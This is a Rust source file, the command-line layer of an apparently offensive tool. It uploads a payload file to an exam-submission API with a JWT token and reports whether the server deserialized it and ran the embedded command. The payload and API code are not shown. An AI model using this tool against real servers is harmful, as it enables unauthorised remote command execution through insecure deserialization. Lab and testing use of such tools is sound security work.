// CLI layer: parses the positional arguments and runs the single
// submit-and-report flow. Everything the tool needs arrives on the
// command line, so there is no interactive input.

use crate::api::ApiClient;
use anyhow::Result;
use indicatif::{ProgressBar, ProgressStyle};
use std::path::PathBuf;
use std::time::Duration;

/// Parsed command-line invocation: the four positional arguments.
#[derive(Debug, PartialEq, Eq)]
pub struct Invocation {
    pub base_url: String,
    pub token: String,
    pub exam_id: i64,
    pub payload_file: PathBuf,
}

impl Invocation {
    /// Parse the positional arguments (program name already stripped).
    /// Returns `None` when fewer than four are given or the exam id is
    /// not numeric; the caller prints usage and exits with status 1.
    pub fn parse(args: &[String]) -> Option<Invocation> {
        if args.len() < 4 {
            return None;
        }
        let exam_id = args[2].parse::<i64>().ok()?;
        Some(Invocation {
            base_url: args[0].clone(),
            token: args[1].clone(),
            exam_id,
            payload_file: PathBuf::from(&args[3]),
        })
    }
}

/// Usage text shown on a malformed invocation.
pub fn print_usage(program: &str) {
    println!("Usage:");
    println!("  {} <base_url> <jwt_token> <exam_id> <payload_file>", program);
    println!();
    println!("Example:");
    println!("  {} http://localhost:5000 <token> 1 payload.bin", program);
}

/// Send the payload and report the outcome on stdout. Any file or
/// network failure bubbles up as an error for `main` to print.
pub fn run(inv: &Invocation) -> Result<()> {
    let api = ApiClient::new(&inv.base_url, &inv.token)?;

    println!("[*] Sending request to {}", api.submit_url());
    println!("[*] Exam ID: {}", inv.exam_id);
    println!("[*] Payload file: {}", inv.payload_file.display());
    println!("[*] Uploading payload for deserialization...");

    // indicatif spinner keeps the terminal alive while the blocking
    // request is in flight.
    let spinner = ProgressBar::new_spinner();
    spinner.set_style(ProgressStyle::with_template("{spinner} {msg}").unwrap());
    spinner.set_message("Waiting for response...");
    spinner.enable_steady_tick(Duration::from_millis(80));

    let outcome = api.submit_exam(inv.exam_id, &inv.payload_file);
    spinner.finish_and_clear();
    let resp = outcome?;

    println!();
    println!("[+] Status Code: {}", resp.status);
    println!("[+] Response: {}", resp.body);
    println!();

    if resp.status == 200 {
        println!("[!] Payload was deserialized by the server!");
        println!("[!] The command embedded in the payload has been executed");
        println!("[!] Check the target host to confirm the command ran");
    } else {
        println!("[!] Request failed with status code: {}", resp.status);
    }
    Ok(())
}
